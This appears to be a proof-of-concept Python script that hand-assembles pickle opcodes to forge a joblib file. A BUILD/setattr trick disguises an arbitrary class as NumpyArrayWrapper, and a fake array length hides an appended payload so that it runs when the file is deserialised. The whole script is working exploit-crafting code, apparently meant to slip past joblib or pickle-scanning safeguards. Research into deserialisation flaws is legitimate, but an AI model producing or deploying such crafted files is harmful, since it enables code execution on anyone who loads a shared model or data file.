from mk import *
import sys
cls = sys.argv[1] if len(sys.argv)>1 else 'argparse:Namespace'
m,n = cls.split(':')
N=20
# obj = m.n.__new__(m.n); BUILD (attrs, {'__class__': NumpyArrayWrapper}) -> setattr changes its class
attrs = b'}('+U('subclass')+G('numpy','ndarray')+U('shape')+b'K'+bytes([N])+b'\x85'+U('order')+U('C')+U('dtype')+dtype('u1')+U('allow_mmap')+b'\x89'+U('numpy_array_alignment_bytes')+b'Nu'
slots = b'}'+U('__class__')+G('joblib.numpy_pickle','NumpyArrayWrapper')+b's'
hdr = b'\x80\x02'+G(m,n)+b')\x81'+attrs+slots+b'\x86b'
tail=b'0'+PAYLOAD+b'.'
total=N+len(tail)
arr=bytearray(N)
arr[0:5]=b'T'+struct.pack('<i',total-1-5)
assert len(arr)==N
check('x4_'+n+'.joblib', hdr+bytes(arr)+tail)
